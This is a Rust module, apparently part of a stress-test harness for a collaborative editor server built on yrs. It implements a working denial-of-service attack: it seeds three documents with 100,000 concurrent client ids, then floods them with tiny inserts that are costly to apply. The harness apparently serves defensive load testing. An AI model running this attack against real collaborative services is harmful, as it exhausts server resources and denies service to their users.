//! The cost-heavy pattern: updates that are tiny on the wire but expensive to apply because
//! of the document they land in.
//!
//! One update of about 1.7 MB (within every size and memory limit) gives each of three
//! documents 100,000 client ids: one character each, all inserted at the start of the text
//! with no neighbours, as if typed at once into an empty document. Every later insert
//! that also names no neighbours is concurrent with all of them, so `yrs` (like Yjs) walks
//! the whole run of them to find its place. The attackers then send such one-character
//! inserts at 150 messages a second in all, spread over the three documents, each
//! connection under its own fresh client id, reconnecting when closed.

use std::{
    sync::{atomic::Ordering::Relaxed, OnceLock},
    time::{Duration, Instant},
};

use anyhow::Result;
use futures::{SinkExt, StreamExt};
use tokio_tungstenite::tungstenite::Message as Ws;

use super::attack::{attacker_connect, Attack};
use crate::proto::write_var;

/// Documents seeded and attacked.
const DOCS: u64 = 3;
/// Client ids in each seeded document.
const SEED_CLIENTS: u64 = 100_000;
/// Tiny inserts per second over all attackers.
const RATE: f64 = 150.0;

/// The root text every Tandem editor binds to.
const ROOT: &str = "content";

/// Appends one struct: a one-character string item with no origins, parented to `ROOT`.
fn lone_char(out: &mut Vec<u8>, ch: u8) {
    // info: string content (4), no origin, no right origin, no parent key
    out.push(4);
    // the parent is a root type, named
    write_var(out, 1);
    write_var(out, ROOT.len() as u64);
    out.extend_from_slice(ROOT.as_bytes());
    write_var(out, 1);
    out.push(ch);
}

/// A sync update frame around a v1 update.
fn update_frame(update: &[u8]) -> Vec<u8> {
    let mut f = vec![0, 2];
    write_var(&mut f, update.len() as u64);
    f.extend_from_slice(update);
    f
}

/// The seed: one character from each of 100,000 client ids (1 to 100,000), built once.
fn seed_frame() -> &'static [u8] {
    static FRAME: OnceLock<Vec<u8>> = OnceLock::new();
    FRAME.get_or_init(|| {
        let mut u = Vec::with_capacity(18 * SEED_CLIENTS as usize);
        write_var(&mut u, SEED_CLIENTS);
        for client in 1..=SEED_CLIENTS {
            write_var(&mut u, 1); // one struct
            write_var(&mut u, client);
            write_var(&mut u, 0); // at clock 0
            lone_char(&mut u, b'a' + (client % 26) as u8);
        }
        write_var(&mut u, 0); // no deletions
        update_frame(&u)
    })
}

/// One tiny insert by `client` at `clock`, concurrent with every seeded character.
fn tiny_frame(client: u64, clock: u64) -> Vec<u8> {
    let mut u = Vec::with_capacity(24);
    write_var(&mut u, 1);
    write_var(&mut u, 1);
    write_var(&mut u, client);
    write_var(&mut u, clock);
    lone_char(&mut u, b'x');
    write_var(&mut u, 0);
    update_frame(&u)
}

impl Attack {
    /// Seeds this attacker's document once, then sends tiny inserts at its share of the
    /// rate until the deadline, on a fresh connection (and client id) after every close.
    pub(super) async fn costly(&self, attackers: usize) -> Result<()> {
        let index = self.seed - 0x5eed;
        let doc = format!("{}-costly-{}", self.doc, index % DOCS);
        let interval = Duration::from_secs_f64(attackers.max(1) as f64 / RATE);
        let mut seeded = false;
        while Instant::now() < self.deadline {
            let url = self.ws_url(&doc);
            let hostport = self.base.trim_start_matches("http://");
            let stream = match attacker_connect(hostport).await {
                Ok(s) => s,
                Err(_) => {
                    self.counters.refused.fetch_add(1, Relaxed);
                    tokio::time::sleep(Duration::from_millis(5)).await;
                    continue;
                }
            };
            let Ok((ws, _)) = tokio_tungstenite::client_async(url, stream).await else {
                self.counters.refused.fetch_add(1, Relaxed);
                tokio::time::sleep(Duration::from_millis(5)).await;
                continue;
            };
            let (mut tx, mut rx) = ws.split();
            // Read (and drop) what the server sends, or it closes us as too slow.
            let reader = tokio::spawn(async move {
                while let Some(Ok(msg)) = rx.next().await {
                    if matches!(msg, Ws::Close(_)) {
                        break;
                    }
                }
            });
            if !seeded {
                if tx
                    .send(Ws::Binary(seed_frame().to_vec().into()))
                    .await
                    .is_err()
                {
                    continue;
                }
                seeded = true;
                self.counters.sent.fetch_add(1, Relaxed);
            }
            let client = 200_000 + rand::random::<u32>() as u64;
            let mut next = Instant::now();
            for clock in 0.. {
                if Instant::now() >= self.deadline || reader.is_finished() {
                    break;
                }
                if tx
                    .send(Ws::Binary(tiny_frame(client, clock).into()))
                    .await
                    .is_err()
                {
                    break;
                }
                self.counters.sent.fetch_add(1, Relaxed);
                next += interval;
                tokio::time::sleep_until(next.into()).await;
            }
            if reader.is_finished() {
                self.counters.closed.fetch_add(1, Relaxed);
            }
            reader.abort();
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use yrs::{updates::decoder::Decode, GetString, ReadTxn, Transact, Update};

    fn payload(frame: &[u8]) -> &[u8] {
        // [0 sync][2 update][varuint length] then the update
        let mut i = 2;
        while frame[i] & 0x80 != 0 {
            i += 1;
        }
        &frame[i + 1..]
    }

    #[test]
    fn the_seed_and_the_inserts_apply_as_concurrent_characters() {
        let seed = seed_frame();
        assert!(
            seed.len() > 1_500_000 && seed.len() < 2_000_000,
            "{}",
            seed.len()
        );
        let doc = yrs::Doc::new();
        let text = doc.get_or_insert_text(ROOT);
        let mut txn = doc.transact_mut();
        txn.apply_update(Update::decode_v1(payload(seed)).unwrap())
            .unwrap();
        for clock in 0..3 {
            let f = tiny_frame(300_000, clock);
            txn.apply_update(Update::decode_v1(payload(&f)).unwrap())
                .unwrap();
        }
        assert_eq!(txn.state_vector().len(), SEED_CLIENTS as usize + 1);
        assert_eq!(text.get_string(&txn).len(), SEED_CLIENTS as usize + 3);
    }
}
